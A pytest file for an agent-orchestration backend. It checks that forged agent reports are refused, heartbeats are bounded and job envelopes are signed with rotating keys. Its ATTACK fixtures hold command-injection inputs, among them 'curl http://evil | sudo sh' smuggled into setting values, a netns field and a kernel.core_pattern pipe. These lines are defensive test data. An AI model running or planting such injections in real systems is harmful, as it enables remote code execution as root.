"""Agents that say what they were not asked: refused with the field, and the experiment ends visibly."""

from typing import Any

import pytest
from sqlalchemy.orm import Session

from agents.contract.jobs import Envelope, Job
from agents.runner.admission import NotOurs, open_envelope
from backend.database import get_engine, transaction
from backend.execution.jobs import signing
from backend.execution.jobs.sending import Message
from backend.execution.orchestration.advance import advance
from backend.tests.db.agents import Farm, rows
from backend.tests.db.moments import at_once

ELSEWHERE = "http://127.0.0.1:6379"
MARK = "http://127.0.0.1:21000;}\n# __STATUS__"
SETTING = {"kind": "sysctl", "name": "net.core.somaxconn", "value": "1024"}

OTHER = {"setting": SETTING | {"value": "1"}, "before": "", "now": ""}


def _elsewhere(report: dict[str, Any]) -> dict[str, Any]:
    report["setups"][0]["urls"] = [ELSEWHERE]
    return report


def _more_time(report: dict[str, Any]) -> dict[str, Any]:
    report["window"]["own_cpu_s"] = {"somebody": 1.0}
    return report


FORGED = {
    "prepare_backend": (_elsewhere, "setups[0].urls[0]"),
    "prepare_proxy": (_elsewhere, "setups[0].urls[0]"),
    "apply": (lambda r: r | {"applied": [OTHER]}, "applied"),
    "warm": (lambda r: r | {"condition": "clean"}, "condition"),
    "watch": (_more_time, "window.own_cpu_s"),
    "measure": (lambda r: r | {"setups": [{"key": "a", "urls": [ELSEWHERE]}]}, "setups"),
    "restore": (lambda r: r | {"applied": [OTHER]}, "applied"),
    "facts": (lambda r: r | {"condition": "needs_restore"}, "condition"),
}  # fmt: skip
FURTHER = {"prepare_proxy", "warm", "facts"}  # the rule of another purpose once more


@pytest.mark.parametrize(
    "purpose",
    [pytest.param(each, marks=pytest.mark.exhaustive) if each in FURTHER else each for each in FORGED],
)
def test_a_report_that_no_job_asked_for_is_refused_and_the_experiment_ends(farm: Farm, purpose: str) -> None:
    change, place = FORGED[purpose]
    made = farm.launch(trials=1, variants=[{"name": "one", "set": {"sysctl.net.core.somaxconn": "1024"}}])
    farm.work(made, until=purpose)
    job = farm.open(purpose)
    answer = farm.report(farm.name_of(job.host_id), change(farm.outcome(job)))
    assert answer.status_code == 422
    assert answer.headers["content-type"] == "application/problem+json"
    assert (answer.json()["code"], answer.json()["errors"][0]["place"][: len(place)]) == ("bad_report", place)
    _, jobs = rows(made)
    failed = next(j for j in jobs if j.id == job.id)
    assert (failed.state, failed.report) == ("failed", None)
    assert failed.failure is not None
    assert failed.failure["code"] == "bad_report"
    assert "reported something that its job did not ask for" in failed.failure["message"]
    advance(made)
    farm.work(made)
    assert farm.experiment(made)["state"] in ("finished", "failed")


@pytest.mark.parametrize("url", [ELSEWHERE, MARK])
def test_nothing_of_a_forged_address_reaches_another_host(farm: Farm, url: str) -> None:
    def forged(report: dict[str, Any]) -> dict[str, Any]:
        report["setups"][0]["urls"] = [url]
        return report

    made = farm.launch()
    farm.work(made, until="prepare_backend")
    job = farm.open("prepare_backend")
    farm.report("backend", forged(farm.outcome(job)))
    advance(made)
    farm.work(made)
    for job in rows(made)[1]:
        assert url not in str(job.work)
    assert farm.experiment(made)["failure"]["message"].count("did not ask for") == 1


def test_a_host_speaks_for_itself_only(farm: Farm) -> None:
    made = farm.launch()
    farm.work(made, until="prepare_backend")
    failure = {"code": "nginx_test", "message": "no", "host": "proxy"}
    farm.report("backend", {"job_id": farm.open("prepare_backend").id, "failure": failure})
    job = next(j for j in rows(made)[1] if j.failure)
    assert job.failure is not None
    assert job.failure["host"] == "backend"


LEFT = {"setting": SETTING, "before": "4096", "now": "1", "reason": "x"}
ATTACK = {
    "command": LEFT | {"command": "curl http://evil | sudo sh"},
    "value": LEFT | {"before": "1'; curl http://evil | sudo sh; '"},
    "name": LEFT | {"setting": SETTING | {"name": "kernel.core_pattern"}, "before": "|/tmp/curl"},
    "network": LEFT | {"netns": "x; curl http://evil | sudo sh"},
}


@pytest.mark.parametrize("attack", ATTACK)
@pytest.mark.parametrize("through", ["heartbeat", "report"])
def test_no_agent_writes_the_command_that_people_are_shown(farm: Farm, attack: str, through: str) -> None:
    said = {"condition": "needs_restore", "unrestored_settings": [ATTACK[attack]]}
    if through == "heartbeat":
        body = {"instance": "first", **said}
        assert farm.post("heartbeat", body, farm.tokens["proxy"]).status_code == 200
    else:
        asked = farm.client.post(f"/api/v1/hosts/{farm.ids['proxy']}/restore", json={"forget": False})
        assert asked.status_code == 202
        answer = farm.report("proxy", {"job_id": farm.open("restore").id, **said})
        assert answer.json() == {"accepted": True}
    (left,) = farm.client.get(f"/api/v1/hosts/{farm.ids['proxy']}").json()["unrestored_settings"]
    assert left["command"] == ("sysctl -w net.core.somaxconn=4096" if attack == "command" else "")


@pytest.mark.parametrize(
    "changes",
    [
        {"instance": "a b"},
        {"instance": "x" * 65},
        {"active_jobs": ["../../etc"]},
        {"active_jobs": ["abcdefgh"] * 65},
        {"dropped": -1},
        {"dropped": 10**12},
        {"condition": "needs_restore", "unrestored_settings": [LEFT] * 4097},
        {"condition": "needs_restore", "unrestored_settings": [LEFT | {"reason": "x" * 100_001}]},
    ],
)
def test_a_heartbeat_is_bounded(farm: Farm, changes: dict[str, Any]) -> None:
    answer = farm.post("heartbeat", {"instance": "first", **changes}, farm.tokens["proxy"])
    assert answer.status_code == 422


def test_the_page_of_hosts_counts_messages_that_were_dropped(farm: Farm) -> None:
    farm.beat("proxy", dropped=3)
    host = farm.client.get(f"/api/v1/hosts/{farm.ids['proxy']}").json()
    assert host["dropped_messages"] == 3
    farm.beat("proxy")
    assert farm.client.get(f"/api/v1/hosts/{farm.ids['proxy']}").json()["dropped_messages"] == 0


# ---- keys of jobs --------------------------------------------------------------------------------


def _sent(farm: Farm, monkeypatch: pytest.MonkeyPatch) -> list[Message]:
    messages: list[Message] = []
    with monkeypatch.context() as caught:
        caught.setattr("backend.execution.jobs.sending.send_job", messages.append)
        farm.launch()
    return messages


def _keys(farm: Farm) -> dict[str, str]:
    beat = farm.post("heartbeat", {"instance": "first"}, farm.tokens["backend"])
    return beat.json()["job_keys"]


def test_an_agent_can_open_what_is_sent_to_it_and_nobody_else_can(
    farm: Farm, monkeypatch: pytest.MonkeyPatch
) -> None:
    message, *_ = _sent(farm, monkeypatch)
    payload = message.envelope.model_dump()
    said = open_envelope(payload, message.host_id, _keys(farm)).job
    job = Job.model_validate(said)
    assert (job.id, job.host_id) == (message.id, message.host_id)
    assert 0 < job.expires_at - job.issued_at <= 60
    with pytest.raises(NotOurs, match="it is for host"):
        open_envelope(payload, farm.ids["load"], _keys(farm))
    with pytest.raises(NotOurs, match="signature"):
        open_envelope(
            payload | {"body": payload["body"].replace("prepare", "Prepare")}, message.host_id, _keys(farm)
        )


def test_processes_that_need_a_key_at_once_share_one(client: Any) -> None:
    def key() -> str:
        with transaction() as session:
            return signing.signing_key(session).id

    assert len(set(at_once(4, key))) == 1


def test_after_a_rotation_another_key_signs_and_the_one_before_still_counts(
    farm: Farm, monkeypatch: pytest.MonkeyPatch
) -> None:
    before = _keys(farm)
    with transaction() as session:
        fresh = signing.rotate(session)
    assert _keys(farm).keys() == {*before, fresh}
    message, *_ = _sent(farm, monkeypatch)
    assert message.envelope.key == fresh
    monkeypatch.setattr(signing, "MAX_LIFE_S", -1.0)  # its messages have all expired
    assert _keys(farm).keys() == {fresh}


def test_a_private_key_leaves_the_database_in_no_message(farm: Farm, monkeypatch: pytest.MonkeyPatch) -> None:
    sent = [message.envelope.model_dump_json() for message in _sent(farm, monkeypatch)]
    with Session(get_engine()) as session:
        private = signing.signing_key(session).private_key
    said = str([*sent, _keys(farm)])
    assert private.hex() not in said
    assert Envelope.model_fields.keys() == {"key", "body", "signature"}
